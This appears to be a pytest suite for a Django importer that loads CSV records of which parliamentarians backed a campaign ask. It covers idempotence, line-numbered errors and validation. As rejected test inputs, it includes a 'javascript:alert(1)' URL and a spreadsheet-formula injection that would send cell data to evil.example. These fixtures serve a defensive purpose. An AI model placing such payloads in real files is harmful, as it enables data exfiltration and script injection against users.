"""Backers for everything else, from a CSV: a row per parliamentarian and ask; rows with errors
named by line and nothing written; the same file twice changes nothing."""

import datetime

import pytest
from django.core.management import call_command

from backing.models import Backing
from parliament_data.backers import backers_import
from parliament_data.services import members_import
from recommendations.models import Recommendation

from .helpers import a_campaign, raw

pytestmark = pytest.mark.django_db

HEADER = "parliament_id,person,ask,how,date,source_url,source_description\n"


@pytest.fixture
def ask():
    members_import(content=raw("members-commons.json"), as_of=datetime.date(2026, 11, 1))
    members_import(content=raw("members-lords.json"), as_of=datetime.date(2026, 11, 1))
    campaign = a_campaign()
    return Recommendation.objects.create(
        campaign=campaign, title="Free political prisoners", slug="free-prisoners", call_to_action="Free them."
    )


def csv_bytes(*lines):
    return (HEADER + "".join(line + "\n" for line in lines)).encode("utf-8")


GOOD = csv_bytes(
    "5101,,free-prisoners,signed_statement,2026-03-01,https://example.org/statement,Statement of 1 March 2026",
    ",Baroness Whitmore of Ely,free-prisoners,spoke,2026-06-27,,Spoke at the summit in Paris",
    ",sian o briain,free-prisoners,wrote,2026-09-03,,Reply to a constituent",
)


def test_good_rows_become_backing_with_their_sources(ask):
    report = backers_import(content=GOOD, file_name="backers.csv")
    assert report.succeeded and report.created_count == 3
    statement = Backing.objects.get(how="signed_statement")
    assert str(statement.person) == "Siân Ó Briain MP"
    assert (statement.backed_on, statement.source_url, statement.source_description) == (
        datetime.date(2026, 3, 1),
        "https://example.org/statement",
        "Statement of 1 March 2026",
    )
    assert str(Backing.objects.get(how="spoke").person) == "Baroness Whitmore of Ely"


def test_the_same_file_twice_changes_nothing_and_a_changed_source_updates(ask):
    backers_import(content=GOOD)
    history = Backing.history.count()
    again = backers_import(content=GOOD)
    assert (again.created_count, again.updated_count, again.unchanged_count) == (0, 0, 3)
    assert (Backing.objects.count(), Backing.history.count()) == (3, history)
    changed = GOOD.replace(b"Reply to a constituent", b'"Reply to a constituent, 3 Sep 2026"')
    report = backers_import(content=changed)
    assert (report.updated_count, report.unchanged_count) == (1, 2)
    assert Backing.objects.get(how="wrote").source_description == "Reply to a constituent, 3 Sep 2026"


def test_rows_with_errors_are_named_by_line_and_nothing_is_written(ask):
    content = csv_bytes(
        "5101,,free-prisoners,signed_statement,2026-03-01,,",
        "9999,,free-prisoners,spoke,,,",
        ",Nobody Known,free-prisoners,spoke,,,",
        "5102,,no-such-ask,shouted,1 March,javascript:alert(1),",
    )
    report = backers_import(content=content)
    assert not report.succeeded and "3 rows have errors" in report.problem
    lines = {row["line"]: row["message"] for row in report.rows}
    assert set(lines) == {"3", "4", "5"}
    assert "9999" in lines["3"] and "Nobody Known" in lines["4"]
    assert all(words in lines["5"] for words in ("no-such-ask", "“how”", "1 March", "javascript:alert(1)"))
    assert not Backing.objects.exists()


def test_a_file_without_the_columns_says_which(ask):
    report = backers_import(content=b"name,email\nx,y\n")
    assert not report.succeeded and "parliament_id or person, ask and how" in report.problem


def test_the_command_imports_a_file(ask, tmp_path, capsys):
    path = tmp_path / "backers.csv"
    path.write_bytes(GOOD)
    call_command("import_backers", str(path))
    assert "created 3" in capsys.readouterr().out
    assert Backing.objects.count() == 3


def test_a_cell_a_spreadsheet_would_run_is_refused(ask):
    content = csv_bytes('5101,,free-prisoners,wrote,,,"=HYPERLINK(""http://evil.example/?""&A2,""Click"")"')
    report = backers_import(content=content)
    assert not report.succeeded and "spreadsheet formula" in report.rows[0]["message"]
    assert not Backing.objects.exists()
